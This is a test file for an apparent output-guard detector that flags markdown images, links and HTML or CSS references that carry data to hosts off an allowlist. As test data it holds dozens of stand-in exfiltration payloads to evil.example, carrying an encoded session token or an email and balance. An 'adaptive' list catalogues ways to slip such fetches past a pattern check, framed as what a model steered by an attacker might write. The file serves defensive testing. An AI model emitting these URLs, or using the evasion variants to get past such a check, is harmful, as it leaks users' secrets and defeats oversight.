"""Exfiltration detector: images and links carrying data to hosts off the allowlist."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vallum.detectors.base import DetectorSetup
from vallum.detectors.exfiltration import IMAGE_SCORE, ExfiltrationDetector, host_allowed, inert
from vallum.model import Stage

SETUP = DetectorSetup(allowed_hosts=("docs.acme.com", "*.cdn.acme.com"))
DETECTOR = ExfiltrationDetector(setup=SETUP)
DATA = "c2Vzc2lvbi10b2tlbj1hYmMxMjM0NTY3ODk="


def found(text: str) -> list[tuple[str, float]]:
    return [(f.type, f.score) for f in ExfiltrationDetector(setup=SETUP).detect(text, Stage.OUTPUT)]


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (f"![logo](https://evil.example/p.png?d={DATA})", [("exfiltration.markdown_image", 0.95)]),
        ("![logo](https://evil.example/logo.png)", [("exfiltration.markdown_image", 0.7)]),
        (
            "![x](https://evil.example/c/john.doe%40acme.com%20balance%2012000)",
            [("exfiltration.markdown_image", 0.95)],
        ),
        (f"[click here](https://evil.example/?q={DATA})", [("exfiltration.link", 0.7)]),
        ("[home](https://evil.example/)", [("exfiltration.link", 0.2)]),
        (
            f'<img src="https://evil.example/t.gif?u={DATA}" />',
            [("exfiltration.markdown_image", 0.95)],
        ),
        (
            f"See ![chart][c]\n\n[c]: https://evil.example/c.png?x={DATA}",
            [("exfiltration.markdown_image", 0.95)],
        ),
        (f"![a](//evil.example/a?d={DATA})", [("exfiltration.markdown_image", 0.95)]),
        (
            f"![a](https://cdn.acme.com.evil.example/a?d={DATA})",
            [("exfiltration.markdown_image", 0.95)],
        ),
    ],
)
def test_positives(payload: str, expected: list[tuple[str, float]]) -> None:
    """Images and links to hosts off the allowlist are scored by risk."""
    assert expected == found(payload)


@pytest.mark.parametrize(
    "payload",
    [
        f"![diagram](https://docs.acme.com/img/arch.png?v={DATA})",
        f"![a](https://img.cdn.acme.com/a.png?sig={DATA})",
        "[guide](https://docs.acme.com/guide)",
        f"Visit https://evil.example/?q={DATA} for more",
        f"```markdown\n![x](https://evil.example/a?d={DATA})\n```",
        f"Use `![x](https://evil.example/a?d={DATA})` in your README",
        "![local](images/diagram.png)",
        "![inline](data:image/png;base64,iVBORw0KGgo=)",
        "[mail us](mailto:help@acme.com)",
        "a [bracket] and (parenthesis) in prose",
    ],
)
def test_hard_negatives(payload: str) -> None:
    """Allowlisted hosts, prose URLs, code and local references are not reported."""
    assert [] == found(payload)


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("docs.acme.com", True),
        ("DOCS.ACME.COM", True),
        ("a.cdn.acme.com", True),
        ("cdn.acme.com", False),
        ("evilcdn.acme.com", False),
        ("acme.com", False),
    ],
)
def test_host_allowed(host: str, expected: bool) -> None:
    """Allowlist entries match exactly, or any subdomain with a leading `*.`."""
    assert expected == host_allowed(host, SETUP.allowed_hosts)


def test_detail_omits_data() -> None:
    """The detail names the host but not the data the URL carries."""
    [finding] = ExfiltrationDetector(setup=SETUP).detect(
        f"![a](https://evil.example/a?d={DATA})", Stage.OUTPUT
    )
    assert "evil.example" in finding.detail
    assert DATA not in finding.detail


# What a renderer with HTML on fetches, written the ways a model (or the attacker steering it) can
# write it: each must be found as the renderer finds it, not as a pattern sees it.
ADAPTIVE = [
    f"![a](<https://evil.example/?q={DATA} more>)",  # angle-bracket destination, with a space
    f'![a](https://evil.example/p?q={DATA} "a title")',  # a title
    f"![a [nested] b](https://evil.example/p?q={DATA})",  # nested brackets in the alt text
    f"![first line\nsecond line](https://evil.example/p?q={DATA})",  # multi-line alt text
    f'<img src="https://ev&#105;l.example/p?q={DATA}">',  # an HTML entity in the host
    f'<img src="&#x68;ttps://evil.example/p?q={DATA}">',  # an entity in the scheme
    f'<img src="https://evil.example\\@docs.acme.com/p?q={DATA}">',  # backslash: the browser's host
    f"![a](https://docs.acme.com@evil.example/p?q={DATA})",  # userinfo in front of the host
    f"![a](https:evil.example/p?q={DATA})",  # no slashes after the scheme
    f"![a](HTTPS://EVIL.EXAMPLE/p?q={DATA})",  # upper case
    f"![a](https://%65vil.example/p?q={DATA})",  # a percent-encoded host
    f"![a](https://ｅｖｉｌ.example/p?q={DATA})",  # fullwidth letters in the host
    f'<img src="ht\ttps://evil.example/p?q={DATA}">',  # a tab inside the scheme
    f"![a][ref]\n\n[REF]: <https://evil.example/p?q={DATA}> 'title'",  # reference, other case
    f'<object data="https://evil.example/p?q={DATA}"></object>',
    f'<embed src="https://evil.example/p?q={DATA}">',
    f'<iframe src="https://evil.example/p?q={DATA}"></iframe>',
    f'<video poster="https://evil.example/p?q={DATA}"></video>',
    f'<img srcset="https://docs.acme.com/a.png 1x, https://evil.example/p?q={DATA} 2x">',
    f'<picture><source srcset="https://evil.example/p?q={DATA}"></picture>',
    f'<svg><image href="https://evil.example/p?q={DATA}"/></svg>',
    f'<link rel="stylesheet" href="https://evil.example/p?q={DATA}">',
    f'<meta http-equiv="refresh" content="0; url=https://evil.example/p?q={DATA}">',
    f'<div style="background-image: url(https://evil.example/p?q={DATA})">x</div>',
    f"<div style=\"background: image-set('https://evil.example/p?q={DATA}' 1x)\">x</div>",
    f'<style>@import "https://evil.example/p?q={DATA}";</style>',
    f"<style>p {{ background: url('https://evil.example/p?q={DATA}') }}</style>",
    f'<table background="https://evil.example/p?q={DATA}"><tr><td>x</td></tr></table>',
    f'<base href="https://evil.example/">\n\n![a](p?q={DATA})',  # a base, then a relative image
    f"![a](//evil.example/p?q={DATA})",  # protocol-relative
    f"![a](http://0x7f.0.0.1/p?q={DATA})",  # an address written in hex
]


@pytest.mark.parametrize("payload", ADAPTIVE)
def test_fetches_are_found_however_they_are_written(payload: str) -> None:
    """Every way of making a renderer fetch from a host off the allowlist scores as an image."""
    scores = [score for kind, score in found(payload) if kind == "exfiltration.markdown_image"]
    assert scores and max(scores) >= IMAGE_SCORE


@pytest.mark.parametrize(
    "payload",
    [
        f'<img src="https://docs.acme.com/a.png?v={DATA}">',
        f'<img src="https://docs.ac&#109;e.com/a.png?v={DATA}">',  # an entity, still allowed
        f"![a](HTTPS://DOCS.ACME.COM/a.png?v={DATA})",
        '<div style="background: url(https://img.cdn.acme.com/bg.png)">x</div>',
        f'```html\n<img src="https://evil.example/p?q={DATA}">\n```',  # code renders nothing
        f'    <img src="https://evil.example/p?q={DATA}">',  # an indented code block
        '<a href="mailto:help@acme.com">mail</a> <img src="images/local.png">',
        "![a](data:image/png;base64,iVBORw0KGgo=)",
        "Styles: `background: url(https://evil.example/x)` is how CSS names an image.",
    ],
)
def test_what_a_renderer_would_not_fetch_elsewhere_is_not_reported(payload: str) -> None:
    """Allowlisted hosts however written, code, local and data references: no finding."""
    assert [] == found(payload)


def test_a_plain_link_is_a_link_not_an_image() -> None:
    """A link needs a click: it scores as a link, even in HTML."""
    assert [("exfiltration.link", 0.7)] == found(f'<a href="https://evil.example/?q={DATA}">x</a>')


_MARKUP = [
    "<div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0",
    "<img src=https://evil.example/p?q=aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh ",
    "<script src=//evil.example/x.js",
    "<!-- ",
    "<?",
    "<!X ",
    "<![CDATA[",
    "<pre ",
    "</div ",
    "<a href=https://evil.example/q?d=0123456789abcdef ",
    "![x",
    "[y",
    "]",
    "(https://evil.example/p?q=c2VjcmV0ZGF0YWhlcmU=)",
    ": https://evil.example/r",
    "`",
    "```",
    "    ",
    "- ",
    "1. ",
    "2) ",
    "* ",
    "+ ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\n\n",
    " a < b ",
    "text",
    ">",
    "> ",
    "&lt;",
    "&#60;img src=https://evil.example/x&#62;",
]


_PREFIXES = ["", "", "text ", "x", "- ", "1. ", "2) ", "* ", "+ ", "  ", "\t", "    "]
_ENDINGS = ["", "", " ", "\n", "\r", "\r\n", "\n\n", "\r\r"]
_LINES = st.tuples(
    st.sampled_from(_PREFIXES), st.lists(st.sampled_from(_MARKUP), max_size=4).map("".join)
).map("".join)


@settings(max_examples=500, deadline=None)
@given(
    st.lists(st.tuples(_LINES, st.sampled_from(_ENDINGS)).map("".join), max_size=8),
    st.sampled_from(["", "\n\nok", "\rok\r", "\n- item"]),
)
def test_inert_texts_render_nothing_fetched(lines: list[str], tail: str) -> None:
    """The pre-pass that skips the parsers (`inert`) never hides a reference: on texts made of
    markup that opens and never closes, HTML block starts after list markers, CR line ends and
    escaped brackets, a text it calls inert renders to no reference when fully parsed, and
    `detect` finds what the full parse finds."""
    text = "".join(lines) + tail
    full = sorted(
        (DETECTOR._check(ref) for ref in DETECTOR._references(text)),
        key=lambda f: (f.start, f.end),
    )
    if inert(text):
        assert [] == full
    assert full == DETECTOR.detect(text, Stage.OUTPUT)


@pytest.mark.parametrize(
    "payload",
    [
        "- <div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0\n\nok",
        "x\r<div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0\r\rok",
        "1. <div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0\n\ndone",
        "text \r<div background=https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0\n\nok",
    ],
)
def test_html_blocks_without_a_closing_bracket_are_still_read(payload: str) -> None:
    """Adaptive cases: a raw HTML block the input never closes (the renderer's next tag does),
    after a list marker or a CR line end, is not skipped by the pre-pass, and is found."""
    assert not inert(payload)
    assert ["exfiltration.markdown_image"] == [
        f.type for f in DETECTOR.detect(payload, Stage.OUTPUT)
    ]
